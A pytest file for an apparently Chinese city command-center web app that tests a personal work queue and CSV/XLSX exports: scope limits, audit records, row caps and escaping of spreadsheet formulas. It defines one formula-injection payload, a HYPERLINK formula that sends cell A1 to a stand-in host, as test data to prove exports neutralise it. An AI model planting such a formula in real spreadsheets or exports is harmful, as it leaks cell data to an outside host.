"""待我处理 by its address, and lists as files: whole, under the asker's scope, harmless, signed by who took them."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from ioc.accounts.base import Accounts, Grant
from ioc.accounts.users import add_user
from ioc.clock import FixedClock
from ioc.exports import sheet, work
from tests.conftest import Database
from tests.http import world as small
from tests.http.conftest import ORIGIN, PASSWORD, SignIn
from tests.http.world import World

pytestmark = pytest.mark.http
EVIL = '=HYPERLINK("http://x/?"&A1,"点")'


@pytest.fixture(autouse=True)
def people(accounts: Accounts) -> None:
    whole = Grant(whole=True, sensitivity=1)
    add_user(accounts, "duty", PASSWORD, ["officer"], whole, name="李嘉欣", own_password=True)
    add_user(accounts, "grid", PASSWORD, ["grid"], whole, name="谭小玲", own_password=True)
    add_user(accounts, "leader", PASSWORD, ["leader"], whole, name="周海明", own_password=True)


def lines(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.data.startswith(b"\xef\xbb\xbf"), "a byte order mark, or the words are unreadable in Excel"
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))


def table(found: list[list[str]]) -> list[dict[str, str]]:
    """Rows under the column names: what stands between the empty line and the end."""
    at = found.index([])
    return [dict(zip(found[at + 1], row, strict=True)) for row in found[at + 2 : -1]]


def file(client: FlaskClient, name: str, query: str = "") -> list[list[str]]:
    return lines(client.get(f"/api/v1/exports/{name}/file?{query}"))


def test_mine_is_one_s_own(sign_in: SignIn, world: World, db: Database) -> None:
    duty, grid, leader = sign_in("duty"), sign_in("grid"), sign_in("leader")
    with db.owner() as conn:
        conn.execute(
            "UPDATE cases SET stage = 'handling', officer = '谭小玲' WHERE case_id = %s", (world.near["case"],)
        )
    mine = {c: set(c.get("/api/v1/live/mine").get_json()["keys"]) for c in (duty, grid, leader)}
    assert mine[grid] == {f"case:{world.near['case']}"}
    assert f"case:{world.far['case']}" in mine[duty], "to be forwarded"
    assert f"case:{world.near['case']}" not in mine[duty]
    assert f"event:{world.near['event']}" in mine[duty]
    assert mine[leader] == set()
    for client, keys in mine.items():
        found = client.get("/api/v1/live/rows?show=mine").get_json()
        assert ({r["key"] for r in found["rows"]}, found["total"]) == (keys, len(keys))
    near = duty.get(f"/api/v1/live/mine?region={small.NEAR}").get_json()["keys"]
    assert set(near) == {f"event:{world.near['event']}", f"case:{world.near['incident']}"}, (
        "its report is theirs to write"
    )
    assert duty.get("/api/v1/live/rows?show=theirs").status_code == 422


def test_mine_is_a_tab_with_its_number_and_a_view(sign_in: SignIn, world: World) -> None:
    duty = sign_in("duty")
    n = duty.get("/api/v1/live/mine").get_json()["total"]
    page = duty.get("/desk/events?show=mine").text
    assert re.search(rf'<i [^>]*data-mine="1"[^>]*>{n}</i>', page)
    tab = re.search(r'<button [^>]*data-show="mine"[^>]*>', page)
    assert tab
    assert 'aria-pressed="true"' in tab[0]
    assert 'data-show="mine"' not in sign_in("leader").get("/desk/events").text, "a leader takes no steps"
    saved = duty.post("/api/v1/desk/views", json={"name": "我的", "query": {"show": "mine"}}, headers=ORIGIN)
    assert saved.get_json()["address"].startswith("show=mine")


def test_mine_needs_a_person(server: Any, token: Any) -> None:
    client = server.test_client()
    assert client.get("/api/v1/live/mine").status_code == 401
    assert client.get("/api/v1/live/mine", headers=token("read")).status_code == 403


# ---------------------------------------------------------------- export


def test_the_file_is_the_list_as_it_was_filtered(
    sign_in: SignIn, world: World, db: Database, clock: FixedClock
) -> None:
    duty = sign_in("duty")
    with db.owner() as conn:
        conn.execute(
            "UPDATE cases SET title = %s, department = '城管局' WHERE case_id = %s", (EVIL, world.near["case"])
        )
        conn.execute("UPDATE cases SET origin = 'demo' WHERE case_id = %s", (world.far["case"],))
    found = file(duty, "queue", "lang=zh")
    head = dict(row for row in found[: found.index([])])
    assert head["中心"] == "试验市运营指挥中心"
    assert (head["范围"], head["导出人"], head["行数"]) == ("全部在办", "李嘉欣 (duty)", "6")
    assert head["导出时间"] == "2026-10-03 14:32:08 Asia/Shanghai"
    assert head["数据性质"] == "演示数据"
    rows = table(found)
    listed = duty.get("/api/v1/live/rows?limit=200").get_json()["rows"]
    assert [r["编号"] for r in rows] == [r["number"] for r in listed], "the order of the screen"
    near = next(r for r in rows if r["编号"] == "近-001")
    assert near["事项"] == f"'{EVIL}", "never computed"
    assert (near["主责部门"], near["时限状态"], near["上报时间"]) == ("城管局", "超时", "2026-10-03 14:02:08")
    assert float(near["经度"]) == pytest.approx(111.15)
    assert [r["数据性质"] for r in rows].count("演示数据") == 1
    assert found[-1][0] == "清单结束，共 6 行"
    english = file(duty, "queue", "lang=en&show=overdue&urgency=critical")
    assert ["Shown", "Overdue"] in english
    assert {r["Number"] for r in table(english)} == {"近-001", f"{small.SECRET}-001"}
    assert {r["Due state"] for r in table(english)} == {"Overdue"}


def test_all_filters_agree_with_the_list(sign_in: SignIn, world: World, db: Database, clock: FixedClock) -> None:
    duty = sign_in("duty")
    with db.owner() as conn:
        conn.execute("UPDATE cases SET closed_at = %s WHERE case_id = %s", (clock.now(), world.far["case"]))
        conn.execute("UPDATE cases SET clock_stopped = true WHERE case_id = %s", (world.near["case"],))
    shown = {
        s: len(table(file(duty, "queue", f"show={s}"))) for s in ("incidents", "cases", "overdue", "closed", "mine")
    }
    assert shown == {"incidents": 2, "cases": 3, "overdue": 0, "closed": 1, "mine": 5}
    assert len(table(file(duty, "queue", "flow=event"))) == 2
    assert len(table(file(duty, "queue", f"region={small.NEAR}"))) == 3
    assert table(file(duty, "hotline")) == []
    assert duty.get("/api/v1/exports/queue?show=nothing").status_code == 422
    assert duty.get("/api/v1/exports/nothing").status_code == 404


def test_the_whole_result_and_not_the_page(sign_in: SignIn, world: World, db: Database, clock: FixedClock) -> None:
    with db.owner() as conn:
        conn.execute(
            "INSERT INTO cases (number, source, source_id, flow, stage, title, opened_at, region_id)"
            " SELECT 'w' || i, 'x', 'x' || i, 'grid', 'accepted', 't', %s, %s FROM generate_series(1, 2500) i",
            (clock.now(), world.regions[small.NEAR_VILLAGE]),
        )
    found = file(sign_in("duty"), "queue")
    assert len({r["编号"] for r in table(found)}) == 2506
    assert found[-1][0] == "清单结束，共 2506 行"


def test_nobody_takes_out_more_than_they_see(sign_in: SignIn, world: World, accounts: Accounts) -> None:
    town = sign_in("town")
    answer = town.get("/api/v1/exports/queue/file")
    assert small.SECRET not in answer.data.decode()
    assert len(table(lines(answer))) == 3
    assert town.get(f"/api/v1/exports/queue?region={small.FAR}").status_code == 404
    refused = sign_in("grid").get("/api/v1/exports/queue/file")
    assert refused.status_code == 403
    assert "desk.export" in refused.get_json()["zh"]
    assert 'data-export="queue"' not in sign_in("grid").get("/desk/events").text
    assert 'data-export="queue"' in town.get("/desk/events").text


def test_every_export_is_in_the_audit_and_a_look_is_not(sign_in: SignIn, world: World, db: Database) -> None:
    duty = sign_in("duty")
    plan = duty.get("/api/v1/exports/queue?show=overdue&lang=en").get_json()
    assert (plan["rows"], plan["too_many"], plan["formats"]) == (2, False, ["csv", "xlsx"])
    assert ["Exported by", "李嘉欣 (duty)"] in plan["head"]
    file(duty, "queue", "show=overdue&lang=en")
    with db.owner() as conn:
        kept = conn.execute("SELECT actor, object, detail FROM audit WHERE action = 'desk.export'").fetchall()
    assert len(kept) == 1
    assert (kept[0]["actor"], kept[0]["object"]) == ("duty", "queue")
    assert (kept[0]["detail"]["rows"], kept[0]["detail"]["query"]) == (2, {"show": "overdue"})


def test_too_many_rows_are_refused_and_told(
    sign_in: SignIn, world: World, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    few = {**work.LISTS, "queue": work.List_(work.LISTS["queue"].lister, ("case.view",), 4)}
    monkeypatch.setattr(work, "LISTS", few)
    duty = sign_in("duty")
    plan = duty.get("/api/v1/exports/queue").get_json()
    assert (plan["rows"], plan["limit"], plan["too_many"]) == (5, 4, True)
    refused = duty.get("/api/v1/exports/queue/file")
    assert refused.status_code == 422
    assert refused.get_json()["reasons"][0]["zh"] == "超过 4 行，请缩小区域或筛选后再导出"
    with db.owner() as conn:
        kept = conn.execute("SELECT count(*) AS n FROM audit WHERE action = 'desk.export'").fetchone()
    assert kept == {"n": 0}


def test_as_a_workbook_long_numbers_stay_and_formulas_are_text(sign_in: SignIn, world: World, db: Database) -> None:
    with db.owner() as conn:
        conn.execute("UPDATE cases SET title = %s WHERE case_id = %s", (EVIL, world.near["case"]))
    answer = sign_in("duty").get("/api/v1/exports/queue/file?format=xlsx")
    assert answer.status_code == 200
    sheet_ = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
    cells = [c for row in sheet_.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert f"'{EVIL}" in [c.value for c in cells]
    assert small.NEAR_VILLAGE in [c.value for c in cells], "twelve digits, as text"


def test_alarms_and_supervision_too(sign_in: SignIn, world: World, db: Database) -> None:
    duty = sign_in("duty")
    step = {"step": "supervise", "version": 1, "given": {"text": "+尽快办结", "until": "2026-10-05"}}
    made = duty.post(f"/api/v1/cases/{world.near['case']}/steps", json=step, headers=ORIGIN)
    assert made.status_code == 200, made.text
    rows = table(file(duty, "supervision", "lang=en"))
    assert [(r["What"], r["Case"], r["State"]) for r in rows] == [("'+尽快办结", "近-001", "Open")]
    assert table(file(duty, "supervision", "state=closed")) == []
    assert duty.get("/api/v1/exports/supervision?state=x").status_code == 422
    found = file(duty, "alarms", "view=ended&priority=high,low&lang=en")
    assert ["Priority", "High, Low"] in found
    assert table(found) == []
    assert duty.get("/api/v1/exports/alarms?rule=nothing").status_code == 422


@given(st.text(max_size=40))
def test_no_text_begins_a_formula(text: str) -> None:
    kept = sheet.safe(text)
    assert not kept.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not kept.startswith(("\t", "\r", "\n"))
    clean = sheet.ILLEGAL_CHARACTERS_RE.sub("", text)
    assert kept in (clean, f"'{clean}")
